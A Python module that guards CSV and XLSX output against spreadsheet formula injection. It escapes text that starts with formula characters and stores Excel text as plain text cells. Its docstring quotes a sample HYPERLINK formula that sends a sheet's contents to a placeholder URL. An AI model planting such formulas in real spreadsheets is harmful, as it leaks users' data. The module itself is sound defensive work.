"""Spreadsheet-safe CSV and XLSX writing (private; every table writer uses it).

Text from the data (an investor's name, a note) may start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return. Excel, LibreOffice and Google Sheets
take such a cell for a formula (``=HYPERLINK("http://..."&A1, "x")`` sends the
sheet's contents away when clicked). Every writer of a ``.csv`` or ``.xlsx``
file in zonegeo goes through this module:

* **XLSX**: text is stored as a text cell (``data_type "s"``), never as a
  formula, and keeps its exact characters. Numbers, booleans and dates keep
  their type.
* **CSV**: a CSV has no cell types, so a text value that starts with one of
  :data:`FORMULA_PREFIXES` gets a leading apostrophe (OWASP's CSV-injection
  guidance), and so does a text value that already starts with apostrophes
  followed by one of them (so the escape can be undone without loss). Only
  text is touched: a number in a numeric column stays a number (``-5.0`` is
  written as ``-5.0``), while the text ``"-5"`` in a text column is written
  as ``'-5``. Column names follow the same rule.
  :func:`unescape_text` undoes it; zonegeo's CSV reader applies it, so
  writing a layer to CSV and reading it back gives the same text.
"""

from __future__ import annotations

import datetime as dt
import os
import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

import numpy as np
import pandas as pd

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "FORMULA_PREFIXES",
    "append_frame",
    "append_row",
    "csv_frame",
    "escape_text",
    "excel_frame",
    "unescape_frame",
    "unescape_text",
    "write_csv",
    "write_xlsx",
]

#: First characters that make a spreadsheet read a CSV field as a formula
#: (OWASP, "CSV Injection").
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_DANGER = "".join(re.escape(c) for c in FORMULA_PREFIXES)
#: Text that gets the apostrophe: a formula prefix, possibly behind apostrophes.
_ESCAPE = re.compile(f"'*[{_DANGER}]")
#: Text that lost one: at least one apostrophe, then a formula prefix.
_UNESCAPE = re.compile(f"'+[{_DANGER}]")


def escape_text(value: str) -> str:
    """Neutralise one CSV text value (prefix ``'`` where a formula could start).

    Examples
    --------
    >>> escape_text("=1+1")
    "'=1+1"
    >>> escape_text("-5"), escape_text("Turkistan Cement"), escape_text("'=1")
    ("'-5", 'Turkistan Cement', "''=1")
    """
    return "'" + value if _ESCAPE.match(value) else value


def unescape_text(value: str) -> str:
    """Undo :func:`escape_text`.

    Examples
    --------
    >>> unescape_text("'-5"), unescape_text("''=1"), unescape_text("'quoted'")
    ('-5', "'=1", "'quoted'")
    """
    return value[1:] if _UNESCAPE.match(value) else value


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))
        or pd.api.types.is_string_dtype(dtype)
    )


def _map_text(frame: pd.DataFrame, func: Any) -> pd.DataFrame:
    out = frame.copy()
    for j in range(out.shape[1]):
        s = out.iloc[:, j]
        if not _is_text_column(s):
            continue
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        mapped = s.map(lambda v: func(v) if isinstance(v, str) else v)
        keep = pd.api.types.is_object_dtype(s.dtype)
        out.isetitem(j, mapped if keep else mapped.astype(s.dtype))
    out.columns = pd.Index(
        [func(c) if isinstance(c, str) else c for c in out.columns], dtype=object
    )
    return out


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells and column names are CSV-safe.

    Examples
    --------
    >>> t = pd.DataFrame({"investor": ["=1+1", "ACME"], "dist_m": [-5.0, 2.0]})
    >>> csv_frame(t).to_dict("list")
    {'investor': ["'=1+1", 'ACME'], 'dist_m': [-5.0, 2.0]}
    """
    return _map_text(frame, escape_text)


def unescape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`csv_frame` on a frame read from CSV (text and column names)."""
    return _map_text(frame, unescape_text)


def write_csv(
    frame: pd.DataFrame, path: str | os.PathLike[str], *, index: bool = False
) -> None:
    """Write ``frame`` as UTF-8 CSV with its text neutralised (see the module).

    The caller chooses the path (usually a temporary one that it renames).
    """
    csv_frame(frame).to_csv(path, index=index, encoding="utf-8")


# ---------------------------------------------------------------------- xlsx


def excel_frame(table: pd.DataFrame) -> pd.DataFrame:
    """Plain Python values for openpyxl: NA as None, naive datetimes, numbers.

    Text stays text; :func:`append_frame` then stores it as text cells.
    """
    out = pd.DataFrame(index=table.index)
    for j, col in enumerate(table.columns):
        s = table.iloc[:, j]
        if pd.api.types.is_datetime64_any_dtype(s):
            s = s.dt.tz_localize(None) if getattr(s.dt, "tz", None) is not None else s
            values = s.astype("datetime64[ns]").astype(object).where(s.notna(), None)
        elif pd.api.types.is_numeric_dtype(s) and not pd.api.types.is_bool_dtype(s):
            num = s.astype("float64") if not pd.api.types.is_integer_dtype(s) else s
            values = num.astype(object).where(num.notna(), None)
        else:
            values = s.astype(object).where(s.notna(), None)
        out.insert(j, col, values, allow_duplicates=True)
    return out


def _cell_value(value: Any) -> Any:
    """Return the value to store, typed for openpyxl (text as ``str``)."""
    if value is None or isinstance(value, (str, bool, int, float)):
        if isinstance(value, float) and value != value:
            return None
        return value
    if isinstance(value, (np.bool_,)):
        return bool(value)
    if isinstance(value, np.integer):
        return int(value)
    if isinstance(value, np.floating):
        return None if np.isnan(value) else float(value)
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tz else value
    if isinstance(value, (dt.datetime, dt.date, dt.time)):
        return value
    if value is pd.NA or value is pd.NaT:
        return None
    return str(value)


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """Append one row; every ``str`` becomes a text cell, never a formula."""
    row = [_cell_value(v) for v in values]
    ws.append(row)
    r = ws.max_row  # the row just appended (it holds cells)
    for c, value in enumerate(row, start=1):
        if isinstance(value, str):
            ws.cell(row=r, column=c).data_type = "s"  # not "f" for "=..."


def append_frame(ws: Worksheet, table: pd.DataFrame) -> pd.DataFrame:
    """Write a header row and the rows of ``table`` as typed, formula-free cells.

    Returns
    -------
    DataFrame
        The values as written (see :func:`excel_frame`), e.g. for column widths.
    """
    frame = excel_frame(table)
    append_row(ws, [str(c) for c in table.columns])
    for row in frame.itertuples(index=False, name=None):
        append_row(ws, row)
    return frame


def write_xlsx(
    sheets: Mapping[str, pd.DataFrame], path: str | os.PathLike[str]
) -> None:
    """Write one sheet per table (bold header, frozen first row), text as text.

    The caller chooses the path (usually a temporary one that it renames).
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    wb.remove(wb.active)
    bold = Font(bold=True)
    for title, table in sheets.items():
        ws = wb.create_sheet(title)
        append_frame(ws, table)
        for cell in ws[1]:
            cell.font = bold
        ws.freeze_panes = "A2"
    wb.save(path)
